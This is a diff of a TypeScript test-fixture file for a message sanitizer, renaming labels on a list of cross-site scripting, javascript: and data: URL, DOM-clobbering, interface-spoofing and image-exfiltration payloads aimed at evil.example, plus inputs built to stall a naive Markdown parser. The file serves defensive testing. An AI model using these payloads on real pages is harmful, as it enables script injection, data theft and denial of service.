@@ -1,6 +1,6 @@
 /**
- * Bodies that want more than to be read. Each tries to call `ran()`, to load something from `evil.example`, to reach the page by a name, or to
- * look like something it is not. The name says how; behind the body stand words of it that are to be seen, and where its links may lead.
+ * Malicious message bodies. Each tries to call `ran()`, to load something from `evil.example`, to clobber a name of the page, or to
+ * spoof its interface. A tuple has a name, the body, the words of it that must stay visible, and the URLs that its links may have.
  */
 export const hostileBodies: readonly (readonly [name: string, body: string, shows?: readonly string[], links?: readonly string[]])[] = [
   // Scripts
@@ -20,15 +20,15 @@ export const hostileBodies: readonly (readonly [name: string, body: string, show
   ['module', '<script type="module">import "https://evil.example/x.js"</script>'],
   ['speculation rules', '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>'],
 
-  // Handlers
-  ['picture that fails', '<img src=x onerror=ran()>'],
-  ['picture in quotes of both kinds', '<img src=\'x\' onerror="ran()">'],
-  ['picture without spaces', '<img/src=x/onerror=ran()>'],
-  ['picture with a broken start', '<<img src=x onerror=ran()>>'],
-  ['picture with a newline in its name', '<img\nsrc=x\nonerror=ran()>'],
-  ['picture inside an attribute', '<a title="<img src=x onerror=ran()>">x</a>', ['x']],
-  ['picture behind an unclosed quote', '<a title="x <img src=x onerror=ran()>'],
-  ['handler on what is allowed', '<b onmouseover=ran() onfocus=ran() tabindex=0 autofocus>bold</b>', ['bold']],
+  // Event handlers
+  ['image that fails', '<img src=x onerror=ran()>'],
+  ['image in quotes of both kinds', '<img src=\'x\' onerror="ran()">'],
+  ['image without spaces', '<img/src=x/onerror=ran()>'],
+  ['image with a broken start', '<<img src=x onerror=ran()>>'],
+  ['image with newlines between attributes', '<img\nsrc=x\nonerror=ran()>'],
+  ['image inside an attribute', '<a title="<img src=x onerror=ran()>">x</a>', ['x']],
+  ['image behind an unclosed quote', '<a title="x <img src=x onerror=ran()>'],
+  ['handler on an allowed element', '<b onmouseover=ran() onfocus=ran() tabindex=0 autofocus>bold</b>', ['bold']],
   ['handler on a paragraph', '<p onclick="ran()" style="position:fixed;inset:0">all over</p>', ['all over']],
   ['handler on a link', '<a href="https://shop.example" onclick="ran()">shop</a>', ['shop'], ['https://shop.example/']],
   ['handler with an encoded name', '<b o&#110;click=ran()>x</b>', ['x']],
@@ -41,29 +41,29 @@ export const hostileBodies: readonly (readonly [name: string, body: string, show
   ['animation that begins', '<b style="animation:x" onanimationstart=ran()>x</b>', ['x']],
   ['popover', '<button popovertarget=x>open</button><div popover id=x onbeforetoggle=ran()>x</div>', ['open', 'x']],
   ['unknown element with a handler', '<xss onclick=ran() id=xss tabindex=1>x</xss>', ['x']],
-  ["element of one's own", '<parley-card onclick=ran()>x</parley-card>', ['x']],
-  ['customised element', '<b is="parley-card">x</b>', ['x']],
+  ['custom element', '<parley-card onclick=ran()>x</parley-card>', ['x']],
+  ['customized built-in element', '<b is="parley-card">x</b>', ['x']],
 
-  // Addresses
+  // URLs
   ['javascript link', '<a href="javascript:ran()">x</a>', ['x']],
   ['javascript link in Markdown', '[x](javascript:ran())', ['x']],
   ['javascript link in capitals', '[x](JaVaScRiPt:ran())', ['x']],
   ['javascript link behind a character reference', '<a href="&#106;avascript:ran()">x</a>', ['x']],
   ['javascript link behind a reference in Markdown', '[x](&#106;avascript:ran())', ['x']],
   ['javascript link behind a named reference', '[x](javascript&colon;ran())', ['x']],
-  ['javascript link behind a tab', '<a href="java&Tab;script:ran()">x</a>', ['x']],
-  ['javascript link behind a newline', '<a href="java&#10;script:ran()">x</a>', ['x']],
+  ['javascript link with a tab in its scheme', '<a href="java&Tab;script:ran()">x</a>', ['x']],
+  ['javascript link with a newline in its scheme', '<a href="java&#10;script:ran()">x</a>', ['x']],
   ['javascript link behind a control character', '<a href="&#1;javascript:ran()">x</a>', ['x']],
   ['javascript link in angle brackets', '<javascript:ran()>'],
-  ['javascript link by definition', '[x][y]\n\n[y]: javascript:ran()', ['x']],
-  ['javascript picture in Markdown', '![x](javascript:ran())', ['x']],
+  ['javascript link by reference definition', '[x][y]\n\n[y]: javascript:ran()', ['x']],
+  ['javascript image in Markdown', '![x](javascript:ran())', ['x']],
   ['data link', '[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)', ['x']],
-  ['data picture', '![x](data:image/svg+xml,%3Csvg%20onload=ran()%3E)', ['x']],
+  ['data image', '![x](data:image/svg+xml,%3Csvg%20onload=ran()%3E)', ['x']],
   ['vbscript link', '[x](vbscript:ran())', ['x']],
-  ['link with a user name for a host', '[bank](https://bank.example@evil.example/)', ['bank']],
+  ['link with a host name as user name', '[bank](https://bank.example@evil.example/)', ['bank']],
   ['link that closes its attribute', '[x](https://a.example/"onmouseover="ran())', ['x'], ['https://a.example/%22onmouseover=%22ran()']],
   ['title that closes its attribute', '[x](https://a.example \'" onmouseover="ran()\')', ['x'], ['https://a.example/']],
-  ['link named in pieces', '<a href="https://a.example" href="javascript:ran()">x</a>', ['x'], ['https://a.example/']],
+  ['link with two href attributes', '<a href="https://a.example" href="javascript:ran()">x</a>', ['x'], ['https://a.example/']],
   ['relative link', '[x](/logout)', ['x']],
   ['link to another protocol', '[x](intent://evil.example/#Intent;end)', ['x']],
   ['base for all links', '<base href="https://evil.example/"><a href="x">x</a>', ['x']],
@@ -71,10 +71,10 @@ export const hostileBodies: readonly (readonly [name: string, body: string, show
   ['button with an action', '<button formaction="javascript:ran()">x</button>', ['x']],
   ['redirect', '<meta http-equiv="refresh" content="0;url=javascript:ran()">'],
 
-  // Loading
-  ['picture in Markdown', '![secret](https://evil.example/?q=secret)', ['secret'], ['https://evil.example/?q=secret']],
-  ['picture in HTML', '<img src="https://evil.example/?q=secret">'],
-  ['picture with a set', '<img srcset="https://evil.example/1x.png 1x">'],
+  // External resources
+  ['image in Markdown', '![secret](https://evil.example/?q=secret)', ['secret'], ['https://evil.example/?q=secret']],
+  ['image in HTML', '<img src="https://evil.example/?q=secret">'],
+  ['image with a srcset', '<img srcset="https://evil.example/1x.png 1x">'],
   [
     'background',
     '<table background="https://evil.example/b.png"><tr><td background="https://evil.example/c.png">x</td></tr></table>',
@@ -85,17 +85,17 @@ export const hostileBodies: readonly (readonly [name: string, body: string, show
   ['frame', '<iframe src="https://evil.example/"></iframe>'],
   ['frame with a document', '<iframe srcdoc="<script>parent.ran()</script>"></iframe>'],
   ['object', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
-  ['shadow root by declaration', '<div><template shadowrootmode=open><img src=x onerror=ran()></template></div>'],
+  ['declarative shadow root', '<div><template shadowrootmode=open><img src=x onerror=ran()></template></div>'],
 
-  // Styles and appearances
+  // Styling and spoofing
   ['style element', '<style>*{display:none}</style>'],
   ['style element with an import', '<style>@import "https://evil.example/x.css";</style>'],
   ['style attribute', '<p style="background:url(https://evil.example/x)">x</p>', ['x']],
   ['overlay by class', '<p class="bubble visitor" part="bubble visitor">I agree to pay</p>', ['I agree to pay']],
   ['text that claims a role', '<p role="alert" aria-live="assertive" aria-label="Your session ended">x</p>', ['x']],
-  ['text that runs backwards', '\u202egpj.elif\u202c *x*', ['gpj.elif', 'x']],
+  ['text with a bidirectional override', '\u202egpj.elif\u202c *x*', ['gpj.elif', 'x']],
 
-  // Names that clobber
+  // DOM clobbering
   ['name of a form', '<form id=body name=body><input name=attributes></form>'],
   ['id of a global', '<a id=parley><a id=parley name=open href="https://evil.example">x</a>', [], ['https://evil.example/']],
   ['name of a document property', '<img name=currentScript><b name=cookie>x</b>', ['x']],
@@ -106,11 +106,11 @@ export const hostileBodies: readonly (readonly [name: string, body: string, show
     ['https://evil.example/'],
   ],
 
-  // Parsers led astray
+  // Parser confusion
   ['svg with a handler', '<svg onload=ran()>'],
   ['svg with a script', '<svg><script>ran()</script></svg>'],
   ['svg with an animated link', '<svg><a><animate attributeName=href values=javascript:ran() /><text x=20 y=20>x</text></a></svg>'],
-  ['svg that uses', '<svg><use href="data:image/svg+xml,<svg id=x><script>ran()</script></svg>#x"></use></svg>'],
+  ['svg use element', '<svg><use href="data:image/svg+xml,<svg id=x><script>ran()</script></svg>#x"></use></svg>'],
   ['svg with a foreign object', '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>'],
   ['svg that leaks a style', '<svg></p><style><a id="</style><img src=1 onerror=ran()>">'],
   ['math with a link', '<math><maction actiontype="statusline" xlink:href="javascript:ran()">x</maction></math>'],
@@ -147,16 +147,16 @@ export const hostileBodies: readonly (readonly [name: string, body: string, show
 
 const many = 19_000;
 
-/** Bodies that want all of a page's time. */
+/** Bodies that take a naive parser very long. */
 export const slowBodies: readonly (readonly [name: string, body: string])[] = [
-  ['emphasis opened for ever', '*a **b '.repeat(many / 7)],
-  ['strikes one in another', '~a~~b '.repeat(many / 6)],
-  ['one long emphasis opened', `${'*'.repeat(14_000)}${'!*1'.repeat(2_000)}`],
+  ['emphasis never closed', '*a **b '.repeat(many / 7)],
+  ['nested strikethrough', '~a~~b '.repeat(many / 6)],
+  ['long delimiter run', `${'*'.repeat(14_000)}${'!*1'.repeat(2_000)}`],
   ['bold in brackets never closed', '[**a'.repeat(many / 4)],
   ['words between underscores', '_bb.'.repeat(many / 4)],
   ['pairs of underscores', '__a_'.repeat(many / 4)],
-  ['quotations', '> '.repeat(many / 2)],
-  ['lists', '- '.repeat(many / 2)],
+  ['nested blockquotes', '> '.repeat(many / 2)],
+  ['nested lists', '- '.repeat(many / 2)],
   ['brackets', '['.repeat(many)],
   ['links never closed', '[a](b'.repeat(many / 5)],
   ['spaces', `a${' '.repeat(many)}*b*`],
@@ -164,10 +164,10 @@ export const slowBodies: readonly (readonly [name: string, body: string])[] = [
   ['tags never closed', '<a "'.repeat(many / 4)],
   ['attributes', `<a ${'x=y '.repeat(many / 4)}>`],
   ['comments never closed', '<!--'.repeat(many / 4)],
-  ['silent elements never closed', '<svg>'.repeat(many / 5)],
-  ['bold in bold', '<b>'.repeat(many / 3)],
-  ['items in items', '<ul><li>'.repeat(many / 8)],
-  ['references', '&#'.repeat(many / 2)],
+  ['dropped elements never closed', '<svg>'.repeat(many / 5)],
+  ['nested bold', '<b>'.repeat(many / 3)],
+  ['nested list items', '<ul><li>'.repeat(many / 8)],
+  ['incomplete character references', '&#'.repeat(many / 2)],
   ['backticks', '`a``b'.repeat(many / 5)],
-  ['table of one row', `|${'a|'.repeat(many / 4)}\n|${'-|'.repeat(many / 4)}`],
+  ['table with many columns', `|${'a|'.repeat(many / 4)}\n|${'-|'.repeat(many / 4)}`],
 ];
